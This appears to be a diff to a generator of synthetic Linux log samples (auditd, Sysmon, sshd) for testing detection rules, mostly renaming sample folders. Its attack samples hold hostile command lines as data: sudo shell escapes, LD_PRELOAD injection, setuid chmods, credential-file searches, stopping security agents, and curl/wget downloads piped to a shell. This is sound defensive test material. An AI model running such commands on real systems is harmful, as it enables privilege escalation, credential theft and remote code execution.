@@ -1,4 +1,4 @@
-// Writes the samples of Linux hosts in this folder: the audit log, Sysmon for Linux, and the log of sshd.
+// Writes the Linux samples in this folder: auditd, Sysmon for Linux and sshd logs.
 import { hex, later, times, writeSamples } from '../samples.js';
 
 const START = '2026-10-09T06:05:00Z';
@@ -6,7 +6,7 @@ const HOST = 'app-031.example.com';
 const seconds = (at) => Date.parse(START) / 1000 + at;
 
 let serial = 4100;
-/** The number of an audit event; its records share it. */
+/** Time and serial number of an audit event; its records share them. */
 const stamp = (at) => `msg=audit(${seconds(at)}.${String(100 + (at % 800)).padStart(3, '0')}:${(serial += 7)})`;
 const node = (text) => `node=${HOST} ${text}`;
 
@@ -29,7 +29,7 @@ function service(at, type, unit, result = 'success') {
 }
 
 const xml = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
-/** An event of Sysmon for Linux, as it writes it to syslog. */
+/** A Sysmon for Linux event, as written to syslog. */
 function sysmon(at, id, version, data) {
   const time = later(START, at);
   const fields = Object.entries(data).map(([name, value]) => `<Data Name="${name}">${xml(String(value))}</Data>`);
@@ -56,14 +56,14 @@ const sshd = (at, message, port = 50000 + at) => {
 
 const SUDO = '/usr/bin/sudo';
 const sudoSamples = {
-  'sudo_shell_escape/attack.log': [
+  'sudo_escape/attack.log': [
     started(0, SUDO, 'sudo find /etc -name hosts -exec /bin/sh ;'),
     started(9, SUDO, 'sudo vim -c :!/bin/bash'),
     started(15, SUDO, 'sudo awk BEGIN {system("/bin/sh")}'),
     started(22, SUDO, 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh'),
     started(30, SUDO, 'sudo python3 -c import os; os.system("/bin/sh")', { user: 'mira' }),
   ],
-  'sudo_shell_escape/administration.log': [
+  'sudo_escape/normal_use.log': [
     started(0, SUDO, 'sudo find /var/log -name *.gz -mtime +30 -exec rm {} ;'),
     started(2, SUDO, 'sudo find /srv/old -type f -exec /usr/bin/shred -u {} ;'),
     started(4, SUDO, 'sudo vim /etc/hosts'),
@@ -71,7 +71,7 @@ const sudoSamples = {
     started(12, SUDO, 'sudo awk -F: {print $1} /etc/shadow'),
     started(20, SUDO, 'sudo python3 /opt/app/manage.py migrate'),
   ],
-  'sudo_shell_escape/without_sudo.log': [
+  'sudo_escape/without_sudo.log': [
     started(0, '/usr/bin/vim', 'vim -c :!/bin/bash', {}),
     started(3, '/usr/bin/env', '/usr/bin/env python3 -c import os; os.system("ls")'),
     started(4, '/usr/bin/su', 'su - build -c python3 -c import os; os.system("make")'),
@@ -80,16 +80,16 @@ const sudoSamples = {
 };
 
 const preloadSamples = {
-  'sudo_preload/attack.log': [
+  'sudo_ld_preload/attack.log': [
     execve(0, 'sudo', 'LD_PRELOAD=/tmp/.x/libroot.so', 'find'),
     execve(8, '/usr/bin/sudo', '-u', 'root', 'LD_PRELOAD=./evil.so', '/usr/sbin/service', 'ssh', 'status'),
   ],
-  'sudo_preload/other_variables.log': [
+  'sudo_ld_preload/other_variables.log': [
     execve(0, 'sudo', 'LD_LIBRARY_PATH=/opt/oracle/lib', '/opt/oracle/bin/sqlplus'),
     execve(3, 'sudo', 'grep', '-r', 'LD_PRELOAD', '/etc'),
     execve(5, 'sudo', 'systemctl', 'restart', 'redis'),
   ],
-  'sudo_preload/without_sudo.log': [
+  'sudo_ld_preload/without_sudo.log': [
     execve(0, 'env', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'redis-server', '/etc/redis/redis.conf'),
     syscall(4, 'sudo', SUDO),
   ],
@@ -102,21 +102,21 @@ const sshFileSamples = {
 };
 
 const chmodSamples = {
-  'chmod_everybody/attack.log': [
+  'chmod_world_writable/attack.log': [
     proctitle(0, 'chmod', '777', '/var/www/html/upload.php'),
     proctitle(4, '/usr/bin/chmod', '-R', '0777', '/opt/app'),
     proctitle(8, 'chmod', 'a+rwx', '/tmp/x'),
     proctitle(11, 'chmod', 'u+s', '/tmp/.x/bash'),
     proctitle(15, 'chmod', '4755', '/var/tmp/find'),
   ],
-  'chmod_everybody/narrow.log': [proctitle(0, 'chmod', '755', '/opt/app/run.sh'), proctitle(2, 'chmod', 'u+x', 'build.sh'), proctitle(4, 'chmod', '600', '/home/ole/.ssh/id_ed25519'), proctitle(6, 'chmod', '0644', '/srv/777/index.html'), proctitle(8, 'chmod', 'o-w', '/opt/app')],
-  'chmod_everybody/other_programs.log': [proctitle(0, 'chown', '777', '/opt/app'), proctitle(3, 'find', '/', '-perm', '-4000'), execve(5, 'chmod', '777', '/tmp/x'), proctitle(9, 'fchmod', '777', '/tmp/y')],
+  'chmod_world_writable/restricted.log': [proctitle(0, 'chmod', '755', '/opt/app/run.sh'), proctitle(2, 'chmod', 'u+x', 'build.sh'), proctitle(4, 'chmod', '600', '/home/ole/.ssh/id_ed25519'), proctitle(6, 'chmod', '0644', '/srv/777/index.html'), proctitle(8, 'chmod', 'o-w', '/opt/app')],
+  'chmod_world_writable/other_programs.log': [proctitle(0, 'chown', '777', '/opt/app'), proctitle(3, 'find', '/', '-perm', '-4000'), execve(5, 'chmod', '777', '/tmp/x'), proctitle(9, 'fchmod', '777', '/tmp/y')],
 };
 
 const moduleSamples = {
-  'kernel_module/attack.log': [syscall(0, 'insmod', '/usr/bin/kmod', { call: 'finit_module', number: 313, key: 'modules' }), syscall(40, 'insmod', '/usr/bin/busybox', { auid: 1001, call: 'init_module', number: 175, key: 'modules' })],
-  'kernel_module/by_the_system.log': [syscall(0, 'insmod', '/usr/bin/kmod', { ...daemon, call: 'finit_module', number: 313, key: 'modules' }), syscall(2, 'systemd-udevd', '/usr/bin/udevadm', { ...daemon, call: 'finit_module', number: 313, key: 'modules' })],
-  'kernel_module/failed_or_other.log': [syscall(0, 'insmod', '/usr/bin/kmod', { success: 'no', call: 'finit_module', number: 313, key: 'modules' }), syscall(5, 'modinfo', '/usr/bin/kmod'), syscall(7, 'install', '/usr/bin/install'), syscall(9, 'rmmod', '/usr/bin/kmod', { call: 'delete_module', number: 176, key: 'modules' })],
+  'kernel_module_loaded/attack.log': [syscall(0, 'insmod', '/usr/bin/kmod', { call: 'finit_module', number: 313, key: 'modules' }), syscall(40, 'insmod', '/usr/bin/busybox', { auid: 1001, call: 'init_module', number: 175, key: 'modules' })],
+  'kernel_module_loaded/by_the_system.log': [syscall(0, 'insmod', '/usr/bin/kmod', { ...daemon, call: 'finit_module', number: 313, key: 'modules' }), syscall(2, 'systemd-udevd', '/usr/bin/udevadm', { ...daemon, call: 'finit_module', number: 313, key: 'modules' })],
+  'kernel_module_loaded/failed_or_other.log': [syscall(0, 'insmod', '/usr/bin/kmod', { success: 'no', call: 'finit_module', number: 313, key: 'modules' }), syscall(5, 'modinfo', '/usr/bin/kmod'), syscall(7, 'install', '/usr/bin/install'), syscall(9, 'rmmod', '/usr/bin/kmod', { call: 'delete_module', number: 176, key: 'modules' })],
   'kernel_modules_listed/attack.log': [syscall(0, 'lsmod', '/usr/bin/kmod'), syscall(40, 'lsmod', '/usr/bin/kmod', { auid: 1001, tty: 'tty1' })],
   'kernel_modules_listed/by_the_system.log': [syscall(0, 'lsmod', '/usr/bin/kmod', { auid: 1000, tty: '(none)' }), syscall(3, 'lsmod', '/usr/bin/kmod', daemon)],
   'kernel_modules_listed/other_programs.log': [syscall(0, 'modinfo', '/usr/bin/kmod'), syscall(2, 'lsblk', '/usr/bin/lsblk'), syscall(4, 'lsmem', '/usr/bin/lsmem')],
@@ -129,16 +129,16 @@ const accountSamples = {
 };
 
 const storeSamples = {
-  'password_stores/attack.log': [execve(0, 'find', '/', '-name', '*.kdbx'), execve(3, 'grep', '-rE', '\\.git-credentials$', '/home'), execve(6, 'locate', '.vault-token'), execve(9, '/usr/bin/find', '/home', '-iname', '.aws/credentials')],
-  'password_stores/other_searches.log': [execve(0, 'find', '/var/log', '-name', '*.gz'), execve(2, 'grep', '-r', 'password', '/etc/app'), execve(4, 'locate', 'kdb.h')],
-  'password_stores/use_of_stores.log': [execve(0, 'keepassxc', '/home/ole/work.kdbx'), execve(2, 'tar', '-czf', '/backup/ole.tgz', '/home/ole/work.kdbx'), execve(4, 'cat', '/home/ole/.vault-token')],
+  'credential_file_search/attack.log': [execve(0, 'find', '/', '-name', '*.kdbx'), execve(3, 'grep', '-rE', '\\.git-credentials$', '/home'), execve(6, 'locate', '.vault-token'), execve(9, '/usr/bin/find', '/home', '-iname', '.aws/credentials')],
+  'credential_file_search/other_searches.log': [execve(0, 'find', '/var/log', '-name', '*.gz'), execve(2, 'grep', '-r', 'password', '/etc/app'), execve(4, 'locate', 'kdb.h')],
+  'credential_file_search/legitimate_use.log': [execve(0, 'keepassxc', '/home/ole/work.kdbx'), execve(2, 'tar', '-czf', '/backup/ole.tgz', '/home/ole/work.kdbx'), execve(4, 'cat', '/home/ole/.vault-token')],
 };
 
 const units = ['nginx', 'redis', 'postgresql', 'cron', 'rsyslog', 'auditd', 'ssh', 'snapd', 'dbus', 'polkit'];
 const serviceSamples = {
-  'defence_stopped/attack.log': [service(0, 'SERVICE_STOP', 'auditd'), service(10, 'SERVICE_STOP', 'nginx'), service(140, 'SERVICE_STOP', 'falcon-sensor'), ...units.slice(0, 9).map((unit) => service(250, 'SERVICE_STOP', unit === 'auditd' ? 'osqueryd' : unit)), service(420, 'SERVICE_STOP', 'fail2ban'), ...times(10, (index) => service(421, 'SERVICE_START', `app@${index}`))],
-  'defence_stopped/restart_or_reboot.log': [service(0, 'SERVICE_STOP', 'rsyslog'), service(2, 'SERVICE_START', 'rsyslog'), ...units.map((unit) => service(120, 'SERVICE_STOP', unit))],
-  'defence_stopped/other_or_failed.log': [service(0, 'SERVICE_STOP', 'atd'), service(4, 'SERVICE_STOP', 'postgresql'), service(8, 'SERVICE_STOP', 'auditd', 'failed'), service(200, 'SERVICE_START', 'auditd')],
+  'security_service_stopped/attack.log': [service(0, 'SERVICE_STOP', 'auditd'), service(10, 'SERVICE_STOP', 'nginx'), service(140, 'SERVICE_STOP', 'falcon-sensor'), ...units.slice(0, 9).map((unit) => service(250, 'SERVICE_STOP', unit === 'auditd' ? 'osqueryd' : unit)), service(420, 'SERVICE_STOP', 'fail2ban'), ...times(10, (index) => service(421, 'SERVICE_START', `app@${index}`))],
+  'security_service_stopped/restart_or_reboot.log': [service(0, 'SERVICE_STOP', 'rsyslog'), service(2, 'SERVICE_START', 'rsyslog'), ...units.map((unit) => service(120, 'SERVICE_STOP', unit))],
+  'security_service_stopped/other_or_failed.log': [service(0, 'SERVICE_STOP', 'atd'), service(4, 'SERVICE_STOP', 'postgresql'), service(8, 'SERVICE_STOP', 'auditd', 'failed'), service(200, 'SERVICE_START', 'auditd')],
 };
 
 const web = { user: 'www-data', parent: '/usr/sbin/php-fpm8.2', parentLine: 'php-fpm: pool www', folder: '/var/www/html' };
@@ -162,16 +162,16 @@ const shellSamples = {
 };
 
 const pipeSamples = {
-  'download_to_shell/attack.log': [
+  'download_piped_to_shell/attack.log': [
     started(0, '/usr/bin/bash', 'bash -c curl -fsSL http://203.0.113.66/i.sh | bash', web),
     started(6, '/usr/bin/dash', 'sh -c wget -qO- https://203.0.113.66:8443/x|sudo sh', web),
     started(12, '/usr/bin/bash', 'bash -c (curl -s http://cdn.example.net/ldr.sh || wget -qO- http://cdn.example.net/ldr.sh) | sh', web),
   ],
-  'download_to_shell/installers.log': [
+  'download_piped_to_shell/installers.log': [
     started(0, '/usr/bin/bash', 'bash -c curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y'),
     started(5, '/usr/bin/bash', 'bash -c curl -fsSL https://get.docker.com | sudo sh'),
   ],
-  'download_to_shell/other_pipes.log': [
+  'download_piped_to_shell/other_pipes.log': [
     started(0, '/usr/bin/bash', 'bash -c curl -s http://203.0.113.66/health | jq .status'),
     started(3, '/usr/bin/curl', 'curl -O http://203.0.113.66/i.sh'),
     started(6, '/usr/bin/bash', 'bash -c cat deploy.sh | ssh web-02.example.com bash'),
@@ -182,26 +182,26 @@ const pipeSamples = {
 const cronSamples = {
   'cron_file/attack.log': [created(0, '/usr/bin/bash', '/etc/cron.d/sysupdate'), created(7, '/usr/bin/curl', '/etc/cron.hourly/.log'), created(12, '/tmp/.x/kworker', '/var/spool/cron/crontabs/root')],
   'cron_file/packages_and_crontab.log': [created(0, '/usr/bin/dpkg', '/etc/cron.d/certbot.dpkg-new'), created(3, '/usr/bin/crontab', '/var/spool/cron/crontabs/tmp.Xq1Zr2', { user: 'ole' }), created(6, '/usr/bin/rpm', '/etc/cron.daily/logrotate')],
-  'cron_file/other_places_or_edited.log': [created(0, '/usr/bin/bash', '/home/ole/cron.d/notes.txt', { user: 'ole' }), created(4, '/usr/bin/vim', '/etc/cron.d/backup', { age: 86400 }), created(8, '/usr/bin/bash', '/var/log/cron.log')],
+  'cron_file/other_paths_or_edited.log': [created(0, '/usr/bin/bash', '/home/ole/cron.d/notes.txt', { user: 'ole' }), created(4, '/usr/bin/vim', '/etc/cron.d/backup', { age: 86400 }), created(8, '/usr/bin/bash', '/var/log/cron.log')],
 };
 
 const failed = (at, user, ip, kind = '') => sshd(at, `Failed password for ${kind}${user} from ${ip} port PORT ssh2`);
 const accepted = (at, user, ip, method = 'password') => sshd(at, `Accepted ${method} for ${user} from ${ip} port PORT ssh2${method === 'publickey' ? ': ED25519 SHA256:9mC1x0Jr7m2f' : ''}`);
 const guessSamples = {
-  'ssh_guessing/attack.log': [...times(10, (index) => failed(index * 6, index % 2 ? 'root' : 'ole', '203.0.113.66')), accepted(70, 'ole', '203.0.113.66')],
-  'ssh_guessing/never_in.log': [...times(14, (index) => failed(index * 5, 'admin', '203.0.113.66', 'invalid user ')), accepted(90, 'ole', '198.51.100.40', 'publickey'), accepted(1900, 'ole', '203.0.113.66')],
-  'ssh_guessing/script_after_login.log': [accepted(0, 'ole', '198.51.100.40', 'publickey'), accepted(9, 'ole', '198.51.100.40', 'publickey'), ...times(12, (index) => failed(30 + index * 60, 'backup', '198.51.100.40'))],
-  'ssh_guessing/mistyped.log': [...times(9, (index) => failed(index * 8, 'ole', '198.51.100.40')), accepted(90, 'ole', '198.51.100.40')],
+  'ssh_brute_force/attack.log': [...times(10, (index) => failed(index * 6, index % 2 ? 'root' : 'ole', '203.0.113.66')), accepted(70, 'ole', '203.0.113.66')],
+  'ssh_brute_force/no_success.log': [...times(14, (index) => failed(index * 5, 'admin', '203.0.113.66', 'invalid user ')), accepted(90, 'ole', '198.51.100.40', 'publickey'), accepted(1900, 'ole', '203.0.113.66')],
+  'ssh_brute_force/script_after_login.log': [accepted(0, 'ole', '198.51.100.40', 'publickey'), accepted(9, 'ole', '198.51.100.40', 'publickey'), ...times(12, (index) => failed(30 + index * 60, 'backup', '198.51.100.40'))],
+  'ssh_brute_force/mistyped.log': [...times(9, (index) => failed(index * 8, 'ole', '198.51.100.40')), accepted(90, 'ole', '198.51.100.40')],
 };
 const typedSamples = {
-  'password_as_user/attack.log': [sshd(0, 'Invalid user Winter7h from 198.51.100.40 port PORT'), accepted(9, 'ole', '198.51.100.40')],
-  'password_as_user/ordinary_names.log': [
+  'password_as_user_name/attack.log': [sshd(0, 'Invalid user Winter7h from 198.51.100.40 port PORT'), accepted(9, 'ole', '198.51.100.40')],
+  'password_as_user_name/ordinary_names.log': [
     sshd(0, 'Invalid user oleberg7 from 198.51.100.40 port PORT'), accepted(8, 'ole', '198.51.100.40'),
     sshd(300, 'Invalid user DEPLOY2024 from 198.51.100.41 port PORT'), accepted(309, 'deploy', '198.51.100.41'),
     sshd(600, 'Invalid user OleBergHome from 198.51.100.42 port PORT'), accepted(609, 'ole', '198.51.100.42'),
     sshd(900, 'Invalid user Ab3xyz7 from 198.51.100.43 port PORT'), accepted(909, 'ole', '198.51.100.43'),
   ],
-  'password_as_user/nobody_logged_on.log': [
+  'password_as_user_name/no_login.log': [
     sshd(0, 'Invalid user Winter7Harbour from 203.0.113.66 port PORT'), accepted(9, 'ole', '198.51.100.40'),
     sshd(300, 'Invalid user Summer7Harbour from 198.51.100.44 port PORT'), accepted(700, 'ole', '198.51.100.44'),
     failed(900, 'Spring7Harbour', '198.51.100.45'), accepted(905, 'Spring7Harbour', '198.51.100.45'),
